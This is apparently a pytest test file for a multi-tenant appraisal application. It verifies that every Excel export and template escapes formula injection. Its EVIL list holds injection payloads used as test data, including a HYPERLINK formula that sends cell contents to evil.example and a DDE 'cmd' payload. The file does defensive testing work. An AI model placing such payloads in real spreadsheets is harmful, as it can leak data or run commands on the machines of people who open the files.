"""Formula injection: every workbook the product hands out (exports and
templates), generated as the office in a built year whose names, positions and
descriptions were typed as formulas, holds no cell Excel would evaluate."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from appraisal.platform.db import db
from appraisal.platform.excel import new_workbook, risky, save_workbook
from appraisal.platform.tenancy import tenant_scope
from appraisal.tenants.cycles import services as cycles
from appraisal.tenants.cycles.models import Appraisee, Cycle, Phase, Population
from appraisal.tenants.org.models import OrgUnit, Person
from appraisal.tenants.results import services as results
from appraisal.tenants.scoring.models import AdjustmentClaim, Veto
from tests.helpers import login

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
]


@pytest.fixture
def evil_year(year):
    """The year with names typed as formulas, computed (results exist)."""
    with tenant_scope(year.tenant):
        units = [db.session.get(OrgUnit, i) for i in year.ids["depts"]]
        for unit, text in zip(units, EVIL):
            unit.name = text
        for person_id, text in zip(year.ids["people"], EVIL):
            person = db.session.get(Person, person_id)
            person.name, person.position = text, text
        for appraisee, text in zip(db.session.scalars(select(Appraisee).order_by(Appraisee.id)), EVIL * 5):
            appraisee.name, appraisee.ranking_group = text, text
        db.session.get(AdjustmentClaim, year.ids["claim"]).description = EVIL[0]
        db.session.get(Veto, year.ids["veto"]).description = EVIL[1]
        cycle = db.session.get(Cycle, year.ids["cycle"])
        for phase in (Phase.TRACKING, Phase.SCORING):
            cycles.move_phase(cycle, phase)
        db.session.commit()
    return year


def exports(year) -> dict[str, str]:
    """Every workbook download the office can get (the test below checks none is missed)."""
    base, ids = f"/t/{year.tenant.slug}", year.ids
    return {
        "users.export": f"{base}/users/export.xlsx",
        "org.roster_template": f"{base}/org/import/template.xlsx",
        "org.roster_export": f"{base}/org/export.xlsx",
        "org.unit_export": f"{base}/org/units/{ids['depts'][0]}/people.xlsx",
        "scoring.upload_template": f"{base}/scoring/template.xlsx?population={ids['dept_pop']}",
        "scoring.claims_export": f"{base}/scoring/claims.xlsx?cycle={ids['cycle']}",
        "scoring.vetoes_export": f"{base}/scoring/vetoes.xlsx?cycle={ids['cycle']}",
        "results.export": f"{base}/results/populations/{ids['dept_pop']}/export.xlsx",
        "results.export_cycle": f"{base}/results/cycles/{ids['cycle']}/export.xlsx",
        "letters.index": f"{base}/letters/?cycle_id={ids['cycle']}&export=1",
        "cycles.population": f"{base}/cycles/populations/{ids['dept_pop']}?export=1",
    }


def evaluated_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would evaluate: formula cells (an <f> element in the
    sheet XML), and text starting like a formula without the quote prefix."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name)):
                found.append(f"{name}: formula element")
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}: formula {cell.value!r}")
                elif risky(cell.value) and not cell.quotePrefix:
                    found.append(f"{sheet.title}!{cell.coordinate}: unprefixed {cell.value!r}")
    return found


def test_no_workbook_the_product_writes_holds_a_live_formula(app, evil_year):
    with tenant_scope(evil_year.tenant):
        cycle = db.session.get(Cycle, evil_year.ids["cycle"])
        cycles.move_phase(cycle, Phase.COMPUTING)
        db.session.commit()
        for pop_id in (evil_year.ids["dept_pop"], evil_year.ids["staff_pop"]):
            results.request_compute(db.session.get(Population, pop_id))
    office = app.test_client()
    login(office, evil_year.tenant, evil_year.users["office_admin"])
    assessor = app.test_client()
    login(assessor, evil_year.tenant, evil_year.users["assessor"])
    problems = {}
    for endpoint, url in exports(evil_year).items():
        client = assessor if endpoint == "scoring.upload_template" else office
        response = client.get(url)
        assert response.status_code == 200, (endpoint, response.status_code)
        assert response.mimetype.endswith("spreadsheetml.sheet"), endpoint
        found = evaluated_cells(response.data)
        if found:
            problems[endpoint] = found[:3]
    assert problems == {}


def test_every_workbook_download_is_scanned(app):
    """A new ``.xlsx`` route must be added to ``exports`` above."""
    rules = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".xlsx")}
    from types import SimpleNamespace

    fake = SimpleNamespace(tenant=SimpleNamespace(slug="x"), ids={"depts": [1], "dept_pop": 1, "cycle": 1})
    assert rules <= set(exports(fake))


def test_the_writer_keeps_the_text_and_marks_it(app):
    wb = new_workbook()
    wb.active.append(EVIL + ["普通文字", 5, -5])
    wb.active["A2"] = "=1+1"  # even a formula set directly is written as its text
    data = save_workbook(wb)
    assert evaluated_cells(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[1]] == EVIL + ["普通文字", 5, -5]
    assert sheet["A2"].value == "=1+1" and sheet["A2"].data_type == "s"
